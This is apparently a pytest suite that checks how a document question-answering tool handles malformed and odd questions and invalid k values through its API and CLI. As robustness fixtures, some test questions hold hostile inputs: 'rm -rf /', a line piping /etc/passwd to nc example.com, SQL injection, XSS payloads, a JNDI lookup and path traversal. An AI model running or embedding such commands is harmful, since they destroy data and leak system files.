"""Bad questions and bad k through the Python API and the `qa` command.

Every input gets either a sensible answer (passages, or an Answer that may abstain) or a
QuestionError / one-line CLI error that names the limit; never a traceback. The fast tests use
the fake embedder; tests marked slow use the real model.
"""

from __future__ import annotations

import json
import subprocess
import time

import pytest
from helpers import FakeEmbedder, assert_one_line_error, run_qa

import qa
from qa.answering.answer import answer_with_index
from qa.answering.question import MAX_K, MAX_QUESTION_CHARS
from qa.answering.retrieval import retrieve_with_index
from qa.api import load_index
from qa.cli import main
from qa.errors import QuestionError
from qa.index.build import build_index
from qa.index.embedding import DEFAULT_MODEL
from qa.results import Answer

QUESTION = "How many trafficking cases were investigated in 2007?"

#: Inputs that are not a question: (input, words the error must contain).
BAD_QUESTIONS = {
    "empty": ("", "empty"),
    "whitespace": (" \t\n\r\u3000\u00a0 ", "empty"),
    "control-chars-only": ("\x00\x01\x02\x1b\x7f\x85", "empty"),
    "nul-bytes-only": ("\x00" * 50, "empty"),
    "lone-surrogates-only": ("\ud800\udfff\udcff\udcfe", "empty"),
    "100kB": ("x" * 100_000, str(MAX_QUESTION_CHARS)),
    "100kB-words": ("How many cases? " * 6_250, str(MAX_QUESTION_CHARS)),
    "lao-1001": ("ພ" * (MAX_QUESTION_CHARS + 1), str(MAX_QUESTION_CHARS)),
    "none": (None, "text"),
    "bytes": (QUESTION.encode(), "text"),
    "number": (42, "text"),
    "list": ([QUESTION], "text"),
}

#: Odd but legitimate questions: they must be answered (possibly "the text does not say").
ODD_QUESTIONS = {
    "nul-inside": "How many\x00 trafficking cases\x00 were investigated in 2007?",
    "control-inside": "How many cases\x07\x1b[31m were investigated\x7f in 2007?\r\n",
    "lone-surrogates-inside": "How many cases \udcff were investigated\ud800 in 2007?",
    "emoji": "🙂🚀 How many cases were investigated in 2007? 🔥",
    "emoji-only": "👨‍👩‍👧‍👦🏳️‍🌈🙂",
    "lao": "ພາສາລາວ",
    "lao-sentence": "ມີຈັກກໍລະນີທີ່ຖືກສືບສວນໃນປີ 2007?",
    "lao-1000": "ພ" * MAX_QUESTION_CHARS,
    "arabic": "كم عدد قضايا الاتجار بالبشر التي تم التحقيق فيها في عام 2007؟",
    "hebrew": "כמה תיקי סחר בבני אדם נחקרו ב-2007?",
    "bidi-override": "\u202eHow many cases\u202c were \u2067investigated\u2069 in 2007?",
    "sql": "'; DROP TABLE x; --",
    "shell": "$(rm -rf /)",
    "shell-backticks": "`reboot`; cat /etc/passwd | nc example.com 80 && echo $HOME",
    "script-tag": "<script>alert(1)</script>",
    "html-question": "<b>How many cases</b> were <img src=x onerror=alert(1)> investigated?",
    "format-strings": "%s %n %x {0} {__class__} ${jndi:ldap://x}",
    "path-traversal": "../../../../etc/passwd",
    "markdown-injection": "[click](javascript:alert(1)) **bold** `code` # heading",
    "citation-markers": "[1][2][99999] What does [2] say?",
}

BAD_K = {
    "zero": (0, "from 1 to 50"),
    "negative": (-1, "from 1 to 50"),
    "string": ("3", "from 1 to 50"),
    "billion": (10**9, "from 1 to 50"),
    "above-max": (MAX_K + 1, "from 1 to 50"),
    "float": (2.5, "from 1 to 50"),
    "none": (None, "from 1 to 50"),
    "bool": (True, "from 1 to 50"),
}

#: What the cleaned question must be for the odd inputs whose cleaning is well defined.
CLEANED = {
    "nul-inside": "How many trafficking cases were investigated in 2007?",
    "control-inside": "How many cases [31m were investigated in 2007?",
    "lone-surrogates-inside": "How many cases were investigated in 2007?",
}


def _ids(d):
    return list(d)


def _index_article(tmp_path_factory, article_path, name, embedder):
    """A fresh corpus holding only the article, indexed by ``embedder``: (index_dir, corpus)."""
    base = tmp_path_factory.mktemp(name)
    corpus = base / "corpus"
    corpus.mkdir()
    (corpus / article_path.name).write_bytes(article_path.read_bytes())
    build_index(corpus, base / "index", embedder=embedder, show_progress=False)
    return base / "index", corpus


@pytest.fixture(scope="module")
def fake_loaded(tmp_path_factory, article_path):
    """The article indexed with the fake embedder, loaded with a fresh fake: (index, fake)."""
    index_dir, corpus = _index_article(tmp_path_factory, article_path, "bad-input", FakeEmbedder())
    fake = FakeEmbedder()
    return load_index(index_dir, corpus, embedder=fake), fake


def _check_passages(idx, passages, k):
    assert len(passages) == min(k, len(idx.chunks))
    assert len({p.chunk for p in passages}) == len(passages)
    for p in passages:
        assert idx.document_text(p.doc_id)[p.start : p.end] == p.text
    scores = [p.score for p in passages]
    assert scores == sorted(scores, reverse=True)


def _check_answer(idx, ans, question_sent):
    assert isinstance(ans, Answer)
    assert isinstance(ans.found, bool)
    assert ans.question == question_sent
    assert isinstance(ans.markdown, str) and ans.markdown.strip()
    assert 0.0 <= ans.confidence <= 1.0
    for q in ans.quotes:
        assert idx.document_text(q.doc_id)[q.start : q.end] == q.text
    assert ans.found == (ans.outcome == "answered")
    if ans.outcome == "not_found":
        assert ans.quotes == [] and ans.passages  # abstains, shows the closest passages
    json.dumps(ans.to_dict(), ensure_ascii=False).encode("utf-8")  # serializable, encodable


# ------------------------------------------------------------------- Python API, fake model


@pytest.mark.parametrize(("question", "needle"), BAD_QUESTIONS.values(), ids=_ids(BAD_QUESTIONS))
def test_bad_question_is_refused_by_retrieve_and_answer(fake_loaded, question, needle):
    idx, fake = fake_loaded
    before = len(fake.queries)
    with pytest.raises(QuestionError, match=needle) as info:
        retrieve_with_index(idx, question, 3)
    assert len(str(info.value)) < 200 and "\n" not in str(info.value)  # one line, no echo
    with pytest.raises(QuestionError, match=needle):
        answer_with_index(idx, question, k=3)
    assert len(fake.queries) == before  # refused before the model is asked anything


def test_huge_question_is_refused_without_scanning_it(fake_loaded):
    idx, _ = fake_loaded
    question = "How many cases? " * 3_000_000  # 48 MB
    t0 = time.perf_counter()
    with pytest.raises(QuestionError, match=str(MAX_QUESTION_CHARS)):
        retrieve_with_index(idx, question, 3)
    with pytest.raises(QuestionError, match=str(MAX_QUESTION_CHARS)):
        answer_with_index(idx, question, k=3)
    assert time.perf_counter() - t0 < 1.0


def test_padded_question_counts_characters_after_cleaning(fake_loaded):
    idx, fake = fake_loaded
    padded = "   " + "\x00" * 500 + QUESTION + "\n" * 5_000
    _check_passages(idx, retrieve_with_index(idx, padded, 3), 3)
    assert fake.queries[-1] == QUESTION


@pytest.mark.parametrize("question", ODD_QUESTIONS.values(), ids=_ids(ODD_QUESTIONS))
def test_odd_question_gets_passages_and_an_answer(fake_loaded, question):
    idx, fake = fake_loaded
    passages = retrieve_with_index(idx, question, 4)
    _check_passages(idx, passages, 4)
    sent = fake.queries[-1]
    sent.encode("utf-8")  # no lone surrogate reaches the model
    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in sent)
    assert sent == sent.strip() and "  " not in sent
    ans = answer_with_index(idx, question, k=4)
    _check_answer(idx, ans, sent)


@pytest.mark.parametrize("name", CLEANED)
def test_odd_question_is_cleaned_to_the_words_asked(fake_loaded, name):
    idx, fake = fake_loaded
    retrieve_with_index(idx, ODD_QUESTIONS[name], 3)
    assert fake.queries[-1] == CLEANED[name]


def test_exactly_the_limit_is_accepted(fake_loaded):
    idx, _ = fake_loaded
    _check_passages(idx, retrieve_with_index(idx, "ພ" * MAX_QUESTION_CHARS, 2), 2)
    _check_passages(
        idx, retrieve_with_index(idx, " " * 5 + "x" * MAX_QUESTION_CHARS + " " * 5, 2), 2
    )


@pytest.mark.parametrize(("k", "needle"), BAD_K.values(), ids=_ids(BAD_K))
def test_bad_k_is_refused_naming_the_limit(fake_loaded, k, needle):
    idx, fake = fake_loaded
    before = len(fake.queries)
    with pytest.raises(QuestionError, match=needle):
        retrieve_with_index(idx, QUESTION, k)
    with pytest.raises(QuestionError, match=needle):
        answer_with_index(idx, QUESTION, k=k)
    with pytest.raises(QuestionError, match=needle):
        qa.retrieve(QUESTION, k, index=idx)
    assert len(fake.queries) == before


@pytest.mark.parametrize("k", [1, MAX_K])
def test_k_at_the_limits_works(fake_loaded, k):
    idx, _ = fake_loaded
    _check_passages(idx, retrieve_with_index(idx, QUESTION, k), k)
    ans = answer_with_index(idx, QUESTION, k=k)
    assert len(ans.passages) == min(k, len(idx.chunks))


@pytest.mark.parametrize(
    ("history", "needle"),
    [
        (5, "history must be a list"),
        ("What tier was Laos in?", "history must be a list"),
        ({"q": "x"}, "history must be a list"),
        (["What tier?", ""], "history item 2: the question is empty"),
        (["What tier?", 7], "history item 2: the question must be text"),
        ([None], "history item 1"),
    ],
)
def test_bad_history_is_refused_naming_history(fake_loaded, history, needle):
    idx, _ = fake_loaded
    with pytest.raises(QuestionError, match=needle):
        answer_with_index(idx, "and in 2018?", 3, history=history)


def test_good_history_makes_a_follow_up(fake_loaded):
    idx, _ = fake_loaded
    ans = answer_with_index(idx, "and in 2018?", 3, history=("What tier was Laos placed in?",))
    assert ans.query == "What tier was Laos placed in? and in 2018?"


@pytest.mark.parametrize("question", ["\u200b", "\u200b \u200b\ufeff", "\u2060\u200d"])
def test_invisible_characters_alone_are_an_empty_question(fake_loaded, question):
    idx, _ = fake_loaded
    with pytest.raises(QuestionError, match="empty"):
        answer_with_index(idx, question, 3)


def test_index_keeps_answering_after_bad_input(fake_loaded):
    idx, _ = fake_loaded
    first = retrieve_with_index(idx, QUESTION, 3)
    for question, _needle in BAD_QUESTIONS.values():
        with pytest.raises(QuestionError):
            retrieve_with_index(idx, question, 3)
    for question in ODD_QUESTIONS.values():
        retrieve_with_index(idx, question, 3)
    assert retrieve_with_index(idx, QUESTION, 3) == first


# ---------------------------------------------------------------------------------- CLI


@pytest.fixture(scope="module")
def cli_index(tmp_path_factory, article_path):
    """An index the CLI accepts without loading a model (fake vectors, default model name)."""
    fake = FakeEmbedder(name=DEFAULT_MODEL)
    return _index_article(tmp_path_factory, article_path, "bad-input-cli", fake)


CLI_BAD = {
    "empty": ("", "empty"),
    "whitespace": (" \t\n ", "empty"),
    "control-chars": ("\x01\x02\x03\x1b\x7f", "empty"),
    # undecodable bytes arrive as lone surrogates (surrogateescape): nothing to search for
    "invalid-utf8": (b"\xff\xfe\xfd\xc3", "empty"),
    "100kB": ("x" * 100_000, "the limit is 1000"),
    "lao-100kB": ("ພາສາລາວ " * 4_000, "the limit is 1000"),
}


@pytest.mark.parametrize(("question", "needle"), CLI_BAD.values(), ids=_ids(CLI_BAD))
def test_cli_bad_question_is_one_line(cli_index, tmp_path, question, needle):
    index_dir, corpus = cli_index
    for command in ("search", "ask"):
        proc = run_qa(command, question, "--index", index_dir, "--corpus", corpus, cwd=tmp_path)
        assert_one_line_error(proc, needle, max_len=300)


@pytest.mark.parametrize("k", ["0", "-1", "51", "1000000000"])
def test_cli_bad_k_is_one_line_naming_the_limit(cli_index, tmp_path, k):
    index_dir, corpus = cli_index
    args = ("-k", k, "--index", index_dir, "--corpus", corpus)
    proc = run_qa("search", QUESTION, *args, cwd=tmp_path)
    assert_one_line_error(proc, "from 1 to 50", max_len=300)


@pytest.mark.parametrize("k", ["three", "2.5", "", "1e9"])
def test_cli_non_integer_k_is_a_usage_error(cli_index, tmp_path, k):
    index_dir, corpus = cli_index
    proc = run_qa(
        "search", QUESTION, "-k", k, "--index", index_dir, "--corpus", corpus, cwd=tmp_path
    )
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr and proc.stdout == ""
    assert "argument -k: invalid int value" in proc.stderr


@pytest.mark.parametrize("question", ["\x00", "\x00\x00 \x00", "\x00\ud800\x00"])
def test_cli_in_process_nul_question_is_one_line(cli_index, capsys, question):
    """argv of a real process cannot hold NUL (exec refuses it), so this goes through main()."""
    index_dir, corpus = cli_index
    rc = main(["search", question, "--index", str(index_dir), "--corpus", str(corpus)])
    out, err = capsys.readouterr()
    assert_one_line_error(subprocess.CompletedProcess([], rc, out, err), "empty", max_len=300)


# ---------------------------------------------------------------------- real model (slow)


#: Questions the article does not answer: the answerer must say so rather than guess.
JUNK = [
    "lao",
    "emoji-only",
    "sql",
    "shell",
    "shell-backticks",
    "script-tag",
    "format-strings",
    "path-traversal",
]
#: The real question wrapped in noise: still answered from the article, with ref [2].
WRAPPED = ["nul-inside", "control-inside", "lone-surrogates-inside", "emoji", "bidi-override"]


@pytest.mark.slow
@pytest.mark.parametrize("name", JUNK)
def test_real_model_abstains_on_junk(real_loaded, name):
    ans = answer_with_index(real_loaded, ODD_QUESTIONS[name], k=5)
    _check_answer(real_loaded, ans, qa.answering.question.clean_question(ODD_QUESTIONS[name]))
    assert ans.found is False
    assert "does not say" in ans.markdown


@pytest.mark.slow
@pytest.mark.parametrize("name", WRAPPED)
def test_real_model_answers_through_noise(real_loaded, name):
    ans = answer_with_index(real_loaded, ODD_QUESTIONS[name], k=5)
    # the noise does not hide the fact: the 38-cases sentence is quoted with its [2]
    # (answered, or as the closest the text comes: the outcome is the calibrated judgement's)
    assert ans.outcome != "not_found"
    assert any("38 cases" in q.text and 2 in q.refs for q in ans.quotes)


@pytest.mark.slow
@pytest.mark.parametrize("name", list(ODD_QUESTIONS))
def test_real_model_odd_questions_give_passages(real_loaded, name):
    _check_passages(real_loaded, retrieve_with_index(real_loaded, ODD_QUESTIONS[name], 5), 5)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["lao", "arabic", "sql", "script-tag", "nul-inside"])
def test_real_model_cli_in_process(real_index, real_embedder, capsys, name):
    index_dir, corpus = real_index
    flags = ["--index", str(index_dir), "--corpus", str(corpus), "--json"]
    assert main(["search", ODD_QUESTIONS[name], "-k", "3", *flags]) == 0
    out, err = capsys.readouterr()
    assert len(json.loads(out)) == 3 and "Traceback" not in err
    assert main(["ask", ODD_QUESTIONS[name], "-k", "3", *flags]) == 0
    out, err = capsys.readouterr()
    assert isinstance(json.loads(out)["found"], bool) and "Traceback" not in err


@pytest.mark.slow
def test_real_model_cli_subprocess_odd_bytes(real_index, tmp_path):
    """A real process: undecodable bytes, RTL text and emoji in argv; answered, not crashed."""
    index_dir, corpus = real_index
    question = b"How many cases were \xff investigated in 2007? " + "كم 🙂".encode()
    proc = run_qa(
        "ask", question, "-k", "3", "--json", "--index", index_dir, "--corpus", corpus, cwd=tmp_path
    )
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    ans = json.loads(proc.stdout)
    assert ans["question"] == "How many cases were investigated in 2007? كم 🙂"
    # the odd bytes do not stop it finding the passage (the answer bar may leave it "not found")
    assert any("38 cases" in p["text"] for p in ans["passages"])
    assert not ans["quotes"] or "38 cases" in ans["quotes"][0]["text"]
